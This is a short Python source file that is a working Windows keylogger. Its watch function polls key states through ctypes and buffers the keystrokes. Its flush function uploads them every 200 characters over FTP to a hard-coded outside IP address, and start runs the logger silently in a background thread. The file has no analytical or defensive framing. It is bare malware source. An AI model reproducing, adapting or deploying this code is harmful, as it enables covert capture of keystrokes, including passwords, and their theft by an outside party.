import ctypes
import ftplib
import io
import os
import threading
import time


def watch(buf):
    user32 = ctypes.windll.user32
    while True:
        for code in range(8, 191):
            if user32.GetAsyncKeyState(code) & 1:
                buf.append(chr(code))
        if len(buf) > 200:
            flush("".join(buf))
            buf.clear()
        time.sleep(0.01)


def flush(text):
    with ftplib.FTP("198.51.100.77", "k", "k") as ftp:
        ftp.storbinary("STOR %s.txt" % int(time.time()), io.BytesIO(text.encode()))


def start():
    if os.name == "nt":
        threading.Thread(target=watch, args=([],), daemon=True).start()
